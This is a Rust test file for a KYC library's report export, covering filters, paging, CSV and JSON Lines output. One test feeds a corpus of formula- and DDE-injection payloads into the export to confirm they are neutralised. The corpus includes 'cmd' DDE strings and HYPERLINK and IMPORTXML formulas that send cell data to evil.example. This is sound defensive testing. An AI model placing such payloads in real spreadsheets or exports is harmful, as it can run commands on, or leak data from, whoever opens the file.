//! Reports: filters, sort and page, CSV with stable columns and BOM, formula neutralisation on an
//! injection corpus, JSON Lines, and reading sessions from JSON Lines with bounded lines.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::Cursor;
use std::sync::Arc;

use crate::common::*;
use jiff::SignedDuration;
use kyc_core::analysis::ImageKind;
use kyc_core::document::{DocumentData, DocumentField, FieldSource};
use kyc_core::report::{
    self, CSV_COLUMNS, CsvOptions, ExportFormat, FieldFilter, PageRequest, ReportError,
    ReportFilter, ReportRow, SessionLines, Sort, SortKey,
};
use kyc_core::session::Origin;
use kyc_core::{Engine, ManualClock, Scenario, SeededEntropy, Session, SessionStatus};

fn passport_scenario(id: &str) -> Scenario {
    let mut s = scenario("passport_selfie");
    s.id = id.to_owned();
    s.steps.truncate(1);
    s.blacklist_id = None;
    s.customer_face_list_id = None;
    s.fraud.block_history_mismatch = false;
    s
}

fn with_field(mut doc: DocumentData, name: &str, value: &str) -> DocumentData {
    doc.fields.retain(|f| f.name != name);
    doc.fields.push(DocumentField {
        name: name.to_owned(),
        value: value.to_owned(),
        confidence: 1.0,
        source: FieldSource::Visual,
    });
    doc
}

/// Six sessions an hour apart: index, scenario, document, whether the MRZ check fails.
fn sessions() -> Vec<Session> {
    let clock = Arc::new(ManualClock::new(t0()));
    let base = passport_data("L898902C3", "1974-08-12", "2032-04-15");
    let plan: Vec<(&str, DocumentData, bool)> = vec![
        (
            "onboarding",
            with_field(base.clone(), "city", "Berlin"),
            false,
        ),
        (
            "onboarding",
            with_field(
                passport_data("X111", "1980-01-01", "2030-01-01"),
                "city",
                "Paris",
            ),
            true,
        ),
        (
            "payments",
            with_field(base.clone(), "surname", "Smith"),
            false,
        ),
        (
            "payments",
            passport_data("Y222", "1990-05-05", "2031-01-01"),
            true,
        ),
        (
            "onboarding",
            passport_data("Z333", "1970-02-02", "2033-01-01"),
            false,
        ),
        ("payments", with_field(base, "city", "berlin"), false),
    ];
    let script = plan
        .iter()
        .map(|(_, d, bad)| (d.clone(), vec![if *bad { mrz_bad() } else { mrz_ok() }]))
        .collect();
    let engine = Engine::builder(clock.clone(), Arc::new(SeededEntropy::from_u64(4)))
        .document_analyzer(ScriptedDocuments::new(script))
        .build();
    plan.iter()
        .enumerate()
        .map(|(i, (scenario_id, _, _))| {
            let mut s = passport_scenario(scenario_id);
            s.limits.failed_attempts_allowed = 0;
            let mut session = engine
                .create_session_with_id(&s, &format!("s{i}"), Origin::Api)
                .unwrap();
            engine
                .submit_capture(
                    &s,
                    &mut session,
                    "passport",
                    &[image(ImageKind::DocumentFront)],
                )
                .unwrap();
            clock.advance(SignedDuration::from_hours(1));
            session
        })
        .collect()
}

fn ok(sessions: &[Session]) -> impl Iterator<Item = Result<Session, ReportError>> + '_ {
    sessions.iter().cloned().map(Ok)
}

fn ids(filter: &ReportFilter, sessions: &[Session]) -> Vec<String> {
    report::query(
        ok(sessions),
        filter,
        Sort::default(),
        PageRequest::default(),
    )
    .unwrap()
    .rows
    .into_iter()
    .map(|r| r.session_id)
    .collect()
}

#[test]
fn filters_by_status_scenario_dates_fields_and_error_codes() {
    let all = sessions();
    assert_eq!(all[1].status, SessionStatus::Declined);
    assert_eq!(all[0].status, SessionStatus::Approved);

    let by_status = ReportFilter {
        statuses: vec![SessionStatus::Declined],
        ..ReportFilter::default()
    };
    assert_eq!(ids(&by_status, &all), ["s1", "s3"]);

    let by_scenario = ReportFilter {
        scenario_ids: vec!["payments".into()],
        ..ReportFilter::default()
    };
    assert_eq!(ids(&by_scenario, &all), ["s2", "s3", "s5"]);

    // Half-open: from s1's creation (inclusive) to s3's (exclusive).
    let by_dates = ReportFilter {
        from: Some(t0() + SignedDuration::from_hours(1)),
        to: Some(t0() + SignedDuration::from_hours(3)),
        ..ReportFilter::default()
    };
    assert_eq!(ids(&by_dates, &all), ["s1", "s2"]);

    let field = |name: &str, value: &str| ReportFilter {
        fields: vec![FieldFilter {
            name: name.into(),
            value: value.into(),
        }],
        ..ReportFilter::default()
    };
    // Declined sessions are found by what their failed captures read, too.
    assert_eq!(
        ids(&field("full_name", "anna  maria eriksson"), &all),
        ["s0", "s1", "s3", "s4", "s5"]
    );
    assert_eq!(ids(&field("full_name", "ANNA MARIA SMITH"), &all), ["s2"]);
    assert_eq!(ids(&field("document_number", "x111"), &all), ["s1"]);
    assert_eq!(
        ids(&field("document_number", "L898902C3"), &all),
        ["s0", "s2", "s5"]
    );
    assert_eq!(ids(&field("city", "BERLIN"), &all), ["s0", "s5"]);
    assert_eq!(ids(&field("surname", "smith"), &all), ["s2"]);
    assert!(ids(&field("city", "Rome"), &all).is_empty());

    let by_code = |code: &str| ReportFilter {
        error_codes: vec![code.into()],
        ..ReportFilter::default()
    };
    assert_eq!(ids(&by_code("document.mrz"), &all), ["s1", "s3"]);
    assert_eq!(
        ids(&by_code("document.mrz.check_digit_refuted"), &all),
        ["s1", "s3"]
    );
    assert!(
        ids(&by_code("document.mr"), &all).is_empty(),
        "prefixes match whole segments only"
    );

    let bad = ReportFilter {
        from: Some(t0() + SignedDuration::from_hours(2)),
        to: Some(t0()),
        ..ReportFilter::default()
    };
    assert_eq!(
        report::query(ok(&all), &bad, Sort::default(), PageRequest::default())
            .unwrap_err()
            .code(),
        "report.invalid_filter"
    );
}

#[test]
fn sorts_and_pages() {
    let all = sessions();
    let sort = Sort {
        key: SortKey::CreatedAt,
        descending: true,
    };
    let page = |offset, limit| {
        report::query(
            ok(&all),
            &ReportFilter::default(),
            sort,
            PageRequest { offset, limit },
        )
        .unwrap()
    };
    let first = page(0, 2);
    assert_eq!(first.total_matched, 6);
    let ids = |p: &report::Page| {
        p.rows
            .iter()
            .map(|r| r.session_id.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(ids(&first), ["s5", "s4"]);
    assert_eq!(ids(&page(2, 2)), ["s3", "s2"]);
    assert_eq!(ids(&page(4, 10)), ["s1", "s0"]);
    assert!(page(6, 10).rows.is_empty());
    let by_status = report::query(
        ok(&all),
        &ReportFilter::default(),
        Sort {
            key: SortKey::Status,
            descending: false,
        },
        PageRequest::default(),
    )
    .unwrap();
    // approved < declined; ties keep input order.
    assert_eq!(ids(&by_status), ["s0", "s2", "s4", "s5", "s1", "s3"]);
    let too_big = report::query(
        ok(&all),
        &ReportFilter::default(),
        sort,
        PageRequest {
            offset: 0,
            limit: 10_001,
        },
    );
    assert_eq!(too_big.unwrap_err().code(), "report.page_too_large");
}

#[test]
fn csv_has_stable_columns_and_an_optional_bom() {
    let all = sessions();
    let (stats, out) = report::export(
        ok(&all),
        &ReportFilter::default(),
        ExportFormat::Csv(CsvOptions { bom: true }),
        Vec::new(),
    )
    .unwrap();
    assert_eq!((stats.read, stats.written), (6, 6));
    assert!(out.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::Reader::from_reader(&out[3..]);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header, CSV_COLUMNS);
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 6);
    assert_eq!(&records[0][0], "s0");
    assert_eq!(&records[0][2], "approved");
    assert_eq!(&records[0][10], "ANNA MARIA ERIKSSON");
    assert_eq!(&records[0][18], "sex=F;city=Berlin");
    assert_eq!(
        &records[1][17],
        "decision.attempts_exhausted;document.mrz.check_digit_refuted"
    );

    let (_, plain) = report::export(
        ok(&all),
        &ReportFilter::default(),
        ExportFormat::Csv(CsvOptions::default()),
        Vec::new(),
    )
    .unwrap();
    assert!(plain.starts_with(b"session_id,"));
}

#[test]
fn formula_cells_are_neutralised() {
    // Payloads from formula- and DDE-injection write-ups, and the variants spreadsheets accept.
    let corpus = [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "+cmd|' /C notepad'!A0",
        "-2+3",
        "-cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{A0}=1+1",
        "\u{FF1D}1+1",
        "\u{FF0B}1",
        "\u{FF0D}1",
        "\u{FF20}SUM(1)",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "\"=1+1\"",
    ];
    // Every personal column carries each payload once.
    let s = passport_scenario("inject");
    let clock = Arc::new(ManualClock::new(t0()));
    let mut script = Vec::new();
    for payload in corpus {
        let mut doc = passport_data(payload, "1974-08-12", "2032-04-15");
        for f in &mut doc.fields {
            if f.name != "birth_date" && f.name != "expiry_date" {
                f.value = payload.to_owned();
            }
        }
        doc.issuing_state = Some(payload.to_owned());
        script.push(with_field(doc, "city", payload));
    }
    let engine = Engine::builder(clock, Arc::new(SeededEntropy::from_u64(8)))
        .document_analyzer(ScriptedDocuments::new(
            script.into_iter().map(|d| (d, vec![mrz_ok()])).collect(),
        ))
        .build();
    let sessions: Vec<Session> = corpus
        .iter()
        .map(|_| {
            let mut session = engine.create_session(&s, Origin::Api);
            let _ = engine.submit_capture(
                &s,
                &mut session,
                "passport",
                &[image(ImageKind::DocumentFront)],
            );
            session
        })
        .collect();
    let (_, out) = report::export(
        ok(&sessions),
        &ReportFilter::default(),
        ExportFormat::Csv(CsvOptions::default()),
        Vec::new(),
    )
    .unwrap();
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let mut checked = 0;
    for (record, payload) in reader.records().map(Result::unwrap).zip(corpus) {
        for column in [
            "issuing_state",
            "surname",
            "given_names",
            "document_number",
            "nationality",
        ] {
            let i = CSV_COLUMNS.iter().position(|c| *c == column).unwrap();
            let cell = &record[i];
            let risky = payload.trim_start_matches([' ', '\u{A0}']).starts_with([
                '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}',
                '\u{FF20}',
            ]) || payload.starts_with(['\t', '\r', '\n']);
            if risky {
                assert_eq!(cell, format!("'{payload}"), "{column}: {payload:?}");
            } else {
                assert_eq!(cell, payload, "{column}");
            }
            checked += 1;
        }
        // Composite cells start with the field name, so they are safe as they are.
        let other = &record[CSV_COLUMNS.len() - 1];
        assert!(!other.starts_with(['=', '+', '-', '@']), "{other:?}");
    }
    assert_eq!(checked, corpus.len() * 5);
    // The unit function agrees on its own.
    assert_eq!(report::neutralise("=1"), "'=1");
    assert_eq!(report::neutralise("ANNA"), "ANNA");
}

#[test]
fn jsonl_rows_round_trip() {
    let all = sessions();
    let (_, out) = report::export(
        ok(&all),
        &ReportFilter::default(),
        ExportFormat::Jsonl,
        Vec::new(),
    )
    .unwrap();
    let text = String::from_utf8(out).unwrap();
    let rows: Vec<ReportRow> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 6);
    assert_eq!(rows[0], ReportRow::from_session(&all[0]));
}

/// What a streaming host does (the Python binding's `report_rows` and `report_csv`): rows one at a
/// time, CSV written in parts of whole lines, gives what `export` writes in one go; an error
/// comes after the rows before it.
#[test]
fn rows_and_csv_parts_equal_the_whole_export() {
    let all = sessions();
    let filter = ReportFilter {
        statuses: vec![SessionStatus::Declined],
        ..ReportFilter::default()
    };
    let options = CsvOptions { bom: true };
    let (stats, whole) =
        report::export(ok(&all), &filter, ExportFormat::Csv(options), Vec::new()).unwrap();
    let mut rows = report::rows(ok(&all), &filter).unwrap();
    let header = report::CsvExport::new(Vec::new(), options).unwrap();
    let mut chunks = vec![header.finish().unwrap()];
    for row in rows.by_ref() {
        let mut part = report::CsvExport::continuing(Vec::new());
        part.write(&row.unwrap()).unwrap();
        let chunk = part.finish().unwrap();
        assert!(chunk.ends_with(b"\n"), "a part is whole lines");
        chunks.push(chunk);
    }
    assert_eq!(rows.stats(), stats);
    assert!(stats.written >= 2 && stats.written < stats.read);
    assert_eq!(chunks.concat(), whole);

    let broken = ok(&all[..2]).chain([Err(ReportError::InvalidFilter("x".into()))]);
    let got: Vec<_> = report::rows(broken, &ReportFilter::default())
        .unwrap()
        .collect();
    assert_eq!(got.len(), 3);
    assert!(got[0].is_ok() && got[1].is_ok() && got[2].is_err());
    let bad = ReportFilter {
        fields: vec![FieldFilter {
            name: " ".into(),
            value: "x".into(),
        }],
        ..ReportFilter::default()
    };
    assert!(report::rows(ok(&all), &bad).is_err());
}

#[test]
fn sessions_stream_from_json_lines_with_bounded_lines() {
    let all = sessions();
    let mut input = String::new();
    input.push_str(&all[0].to_json());
    input.push_str("\n\n");
    input.push_str("{\"not\": \"a session\"}\n");
    input.push_str(&"x".repeat((1 << 20) + 10));
    input.push('\n');
    input.push_str(&all[1].to_json());
    let results: Vec<_> = SessionLines::new(Cursor::new(input)).collect();
    assert_eq!(results.len(), 4);
    assert_eq!(results[0].as_ref().unwrap().id, "s0");
    match &results[1] {
        Err(ReportError::BadSession { line, code, .. }) => {
            assert_eq!(*line, 3);
            assert_eq!(*code, "json.unknown_field");
        }
        other => panic!("{other:?}"),
    }
    match &results[2] {
        Err(ReportError::BadSession { line, code, .. }) => {
            assert_eq!(*line, 4);
            assert_eq!(*code, "json.too_large");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(results[3].as_ref().unwrap().id, "s1");
}

#[test]
fn a_large_generated_stream_exports_row_by_row() {
    let template = sessions().remove(0);
    let n = 20_000;
    let generated = (0..n).map(|i| {
        let mut s = template.clone();
        s.id = format!("gen{i}");
        Ok(s)
    });
    let (stats, sink) = report::export(
        generated,
        &ReportFilter::default(),
        ExportFormat::Csv(CsvOptions::default()),
        std::io::sink(),
    )
    .unwrap();
    let _ = sink;
    assert_eq!(stats.written, n);
}

/// `fixtures/sessions/sample.jsonl` is these sessions (the `report` example's demo input); set
/// `KYC_UPDATE_GOLDEN=1` to rewrite it.
#[test]
fn sample_sessions_fixture_is_current() {
    let text: String = sessions().iter().map(|s| s.to_json() + "\n").collect();
    let path = fixture("sessions/sample.jsonl");
    if crate::common::update_golden() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &text).unwrap();
    }
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
}
